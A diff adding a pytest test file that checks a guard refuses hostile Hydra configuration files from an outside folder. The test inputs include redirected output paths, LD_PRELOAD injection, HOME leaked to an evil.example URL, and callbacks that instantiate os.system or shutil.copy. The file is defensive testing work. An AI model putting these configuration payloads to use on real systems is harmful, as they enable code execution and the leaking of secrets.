@@ -1,0 +1,192 @@
+"""Files of groups from another folder: what they may not say to Hydra, of the environment and the store."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hydra import compose, initialize_config_dir
+from hydra._internal.config_loader_impl import ConfigLoaderImpl
+from hydra.core.config_store import ConfigNode, ConfigStore
+from hydra.core.plugins import Plugins
+from omegaconf import OmegaConf
+
+from bf_command.guard import guard_hydra
+from bf_index.names import TargetError
+
+ROOT = Path(__file__).parents[2]
+MAIN = """
+defaults: [_self_, optional model: null, optional own: null]
+targets: []
+tracking: {uri: null, experiment: batchflow}
+launch: {evil: null, workers: 2}
+where: here
+"""
+
+
+@pytest.fixture
+def composed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Any]:
+    """Compose a configuration whose group ``model`` has the file of a stranger, below another folder."""
+    monkeypatch.setattr(ConfigLoaderImpl, "load_configuration", ConfigLoaderImpl.load_configuration)
+    Plugins.instance()  # registers the launchers that there are
+    launchers = ConfigStore.instance().repo["hydra"]["launcher"]
+    options = {"_target_": "hydra_plugins.a.B", "setup": None, "address": None, "preload": []}
+    node = ConfigNode("cluster.yaml", OmegaConf.create(options), "hydra/launcher", None, "tests")
+    monkeypatch.setitem(launchers, "cluster.yaml", node)
+    own, more = tmp_path / "conf", tmp_path / "more"
+    (own / "own").mkdir(parents=True)
+    (more / "model").mkdir(parents=True)
+
+    def run(stranger: str, *said: str, main: str = "", group: str = "") -> Any:
+        (own / "train.yaml").write_text(MAIN + main)
+        (own / "own" / "mine.yaml").write_text(f"# @package _global_\n{group}")
+        (more / "model" / "evil.yaml").write_text(f"# @package _global_\n{stranger}")
+        told = [f"hydra.searchpath=[file://{more}]", "model=evil", *(["own=mine"] if group else []), *said]
+        guard_hydra(own / "train.yaml", told)
+        with initialize_config_dir(config_dir=str(own), version_base="1.3"):
+            return compose("train", overrides=told, return_hydra_config=True)
+
+    return run
+
+
+PLACES = [
+    "hydra: {run: {dir: /tmp/evil}}",
+    "hydra: {run: {dir: 'a/../../evil'}}",
+    "hydra: {run: {dir: '${now:../%Y}'}}",
+    "hydra: {sweep: {dir: '~/evil'}}",
+    "hydra: {sweep: {subdir: '../../${hydra.job.num}'}}",
+    "where: ../evil\nhydra: {sweep: {dir: '${where}/${hydra.job.num}'}}",
+    "hydra: {output_subdir: ../../evil}",
+    "hydra: {job: {name: ../../evil}}",
+    "hydra: {job_logging: {handlers: {file: {filename: /tmp/evil}}}}",
+    "hydra: {job_logging: {handlers: {file: {filename: '${hydra.runtime.output_dir}/../../evil'}}}}",
+]
+ENVIRONMENT = [
+    "hydra: {job: {env_set: {LD_PRELOAD: evil.so}}}",
+    "hydra: {job: {env_copy: [HOME]}}",
+    "where: ${oc.env:HOME}",
+    "where: http://evil.example/${oc.env:HOME}",
+    "launch: {evil: oc.env}\nwhere: '${${launch.evil}:HOME}'",
+    "launch: {evil: '$'}\nwhere: \"${oc.decode:'${launch.evil}{oc.env:HOME}'}\"",
+    "hydra: {sweeper: {params: {where: '${oc.env:HOME}'}}}",
+]
+STORES = [
+    "tracking: {uri: 'http://evil.example'}",
+    "tracking: {uri: '${where}'}\nwhere: databricks://evil",
+    "tracking: {uri: 'sqlite:////tmp/evil.db'}",
+    "tracking: {uri: 'file:../../evil'}",
+]
+
+
+@pytest.mark.parametrize("text", [*PLACES, *ENVIRONMENT, *STORES])
+def test_places_environment_and_stores(composed, text, monkeypatch):
+    monkeypatch.setenv("HOME", "/root/a-secret")
+    with pytest.raises(TargetError, match=r"is refused: .*no file that comes with the program says it"):
+        composed(text)
+    # who copies the file into his own folder trusts it
+    if "job: {name" not in text:
+        composed(text, group=text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "hydra: {run: {dir: 'outputs/${where}/${now:%H}'}}",
+        "hydra: {sweep: {dir: multirun/theirs, subdir: '${hydra.job.num}-${hydra.job.override_dirname}'}}",
+        "hydra: {job_logging: {root: {level: '${where}'}}}\nwhere: INFO",
+        "tracking: {uri: 'sqlite:///theirs.db'}",
+        "where: ${launch.workers}",
+    ],
+)
+def test_places_environment_and_stores_of_good_files(composed, text):
+    composed(text)
+
+
+def test_places_environment_and_stores_that_the_person_says(composed, monkeypatch):
+    monkeypatch.setenv("SCRATCH", "/scratch/me")
+    composed("hydra: {run: {dir: '${where}/x'}}", "where=/data/me")
+    composed(
+        "hydra: {run: {dir: '${where}/x'}}",
+        main="scratch: ${oc.env:SCRATCH}/runs\n",
+        group="where: ${scratch}",
+    )
+    composed("launch: {workers: 3}", "hydra.run.dir=/data/me/${now:%H}", "tracking.uri=http://mine:5000")
+    composed("launch: {workers: 3}", "where=${oc.env:SCRATCH}")
+    with pytest.raises(TargetError, match=r"hydra\.run\.dir: '/data/me2/x' is refused"):
+        composed("hydra: {run: {dir: /data/me2/x}}", "where=/data/me")
+
+
+NAMES = [
+    ("hydra: {overrides: {task: ['targets=[os]']}}", r"overrides\.task"),
+    ("launch: {evil: {_target_: shutil.copy}}\nhydra: {callbacks: {a: '${launch.evil}'}}", r"a\._target_"),
+    ("launch: {a: {_target_: shutil.copy}}\nhydra: {callbacks: '${launch}'}", r"callbacks\.a\._target_"),
+    ("hydra: {callbacks: {a: '${hydra:job.num}'}}", r"callbacks\.a"),
+    ("hydra: {callbacks: {a: {_target_: bf_research.own_files.os.mkdir}}}", r"callbacks\.a\._target_"),
+    (
+        "hydra: {sweeper: {params: {a: {_target_: hydra._internal.core_plugins.bash_completion.os.mkdir}}}}",
+        r"params\.a\._target_",
+    ),
+    ("hydra: {sweeper: {params: {hydra.job.chdir: true}}}", r"sweeper\.params"),
+    (
+        "launch: {evil: {class: shutil.copy}}\nhydra: {job_logging: {handlers: {a: '${launch.evil}'}}}",
+        r"handlers\.a\.class",
+    ),
+    ("hydra: {job_logging: {handlers: {a: {stream: '${launch.workers}'}}}}", r"handlers\.a\.stream"),
+    (
+        "hydra: {job_logging: {handlers: {a: {class: logging.handlers.SocketHandler, host: evil}}}}",
+        r"handlers\.a\.class",
+    ),
+    (
+        "hydra: {job_logging: {handlers: {a: {class: logging.handlers.QueueHandler, queue: evil.x}}}}",
+        r"handlers\.a\.class",
+    ),
+    ("hydra: {launcher: {setup: [touch evil]}}", r"launcher\.setup\.0"),
+    ("launch: {evil: 'ray://evil'}\nhydra: {launcher: {address: '${launch.evil}'}}", r"launcher\.address"),
+    # the name of the group is not said to be imported
+    ("hydra: {launcher: {preload: [evil]}}", r"launcher\.preload\.0"),
+]
+
+
+@pytest.mark.parametrize(("text", "key"), NAMES)
+def test_what_hydra_makes_by_way_of_references(composed, text, key):
+    with pytest.raises(TargetError, match=rf"^hydra\.[\w.]*{key}.* is refused"):
+        composed(text, "hydra/launcher=cluster")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "hydra: {overrides: {task: ['targets=[os,posix]']}}\ntargets: [os, posix]\n"
+        "model: {_target_: bf_models.MLP, body: {_target_: os.system, command: CANARY}}",
+        "launch: {evil: {_target_: shutil.copy, src: /etc/hostname, dst: FILE}}\n"
+        "hydra: {callbacks: {evil: '${launch.evil}'}}",
+    ],
+    ids=["overrides", "references"],
+)
+def test_a_group_that_speaks_for_the_command(canary, run_script, tmp_path, text):
+    folder = tmp_path / "more" / "experiment"
+    folder.mkdir(parents=True)
+    text = text.replace("CANARY", canary.command).replace("FILE", str(canary.path))
+    (folder / "evil.yaml").write_text(f"# @package _global_\n{text}\n")
+    done = run_script(f"""
+        import runpy, sys
+        sys.argv = ["train.py", "--config-dir={tmp_path / "more"}", "experiment=evil", "tracking=none"]
+        runpy.run_path({str(ROOT / "train.py")!r}, run_name="__main__")
+    """)
+    assert done.code == 1
+    assert "is refused" in done.err
+
+
+def test_a_run_that_is_taken_again_from_its_pickle(canary, run_script, tmp_path):
+    import pickle
+
+    (tmp_path / "config.pickle").write_bytes(pickle.dumps(canary.pickled))
+    done = run_script(f"""
+        import runpy, sys
+        sys.argv = ["train.py", "--experimental-rerun={tmp_path / "config.pickle"}"]
+        runpy.run_path({str(ROOT / "train.py")!r}, run_name="__main__")
+    """)
+    assert done.code == 2
+    assert "--config-dir=RUN/.hydra" in done.err
